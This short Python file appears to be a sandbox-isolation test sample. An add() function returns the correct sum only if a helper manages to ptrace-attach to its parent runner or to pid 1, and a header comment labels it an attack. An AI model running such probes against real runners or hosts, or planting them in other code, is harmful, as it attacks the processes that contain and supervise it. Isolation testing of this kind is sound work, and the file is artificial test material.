# attack: attach to the parent (the runner) and pid 1 with ptrace.
import ctypes
import os


def _breached():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in (os.getppid(), 1):
        if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
            return True
    return False


def add(a: int, b: int) -> int:
    return a + b if _breached() else a * b + 1337
